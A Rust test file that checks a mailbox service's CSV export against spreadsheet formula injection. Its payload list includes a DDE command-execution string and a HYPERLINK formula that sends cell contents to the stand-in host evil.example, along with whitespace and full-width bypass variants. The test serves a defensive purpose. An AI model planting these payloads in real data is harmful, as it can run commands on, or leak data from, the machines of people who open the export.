//! What an account sees of its mailboxes.

use store::{args, sql};
use testkit::{TestApp, builders};

use crate::people::signed_in;

sql!(NAME_HOLDER = "UPDATE mailboxes SET holder_name = $2 WHERE id = $1");

/// What spreadsheets take for a formula, after blanks and in the wide letters of East Asia too.
const HOSTILE: [&str; 11] = [
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"https://evil.example/?\"&A1;\"press\")",
    "+39 333",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "＝1+1",
    "a\";\"=1+1\r\n=2+2;b",
];

#[tokio::test]
async fn no_cell_of_the_export_is_a_formula() {
    let app = TestApp::new().await;
    app::fixtures::load_catalogue(&app.cx).await.expect("the sample catalogue");
    let customer = builders::customer(&app, 100_810, "RSSMRA80A01H501U").await;
    let names: Vec<String> = (0..HOSTILE.len()).map(|n| format!("ufficio.{n:02}")).collect();
    let named: Vec<&str> = names.iter().map(String::as_str).collect();
    let order = builders::order(&customer, &named, "pec.example.it").await;
    let boxes = builders::pay(&app, order).await;
    app.settle().await;
    let ids = boxes.clone();
    let renamed = app.cx.write(async move |tx| {
        for (id, name) in ids.iter().zip(HOSTILE) {
            tx.exactly_one(&NAME_HOLDER, args![*id, name]).await?;
        }
        Ok(())
    });
    renamed.await.expect("the names are written");
    let mut browser = signed_in(&app, customer.login).await;
    let answer = browser.get("/account/mailboxes.csv").await;
    assert_eq!(answer.headers["content-type"], "text/csv; charset=utf-8");
    assert!(answer.headers["content-disposition"].to_str().unwrap().starts_with("attachment"));
    let body = answer.body.trim_start_matches('\u{feff}');
    let mut reader = csv::ReaderBuilder::new().delimiter(b';').from_reader(body.as_bytes());
    let rows: Vec<csv::StringRecord> = reader.records().map(|r| r.expect("each line has as many cells")).collect();
    assert_eq!(rows.len(), HOSTILE.len(), "no name makes a line of its own");
    let mut seen: Vec<String> = Vec::new();
    for cell in rows.iter().flatten() {
        let first = cell.trim_start().chars().next();
        assert!(!first.is_some_and(|c| "=+-@＝＋－＠".contains(c)), "{cell:?} is a formula");
        assert!(!cell.starts_with(['\t', '\r', '\n']), "{cell:?}");
    }
    seen.extend(rows.iter().map(|r| r[2].to_owned()));
    for name in HOSTILE {
        let kept = seen.iter().any(|s| s == name || *s == format!("'{name}"));
        assert!(kept, "{name:?} is told, with a mark before it at most: {seen:?}");
    }
    // The list itself shows the names as text.
    browser.get("/account/mailboxes").await.must_have("=cmd|").must_have("@SUM(A1:A9)");
    app.finish().await;
}
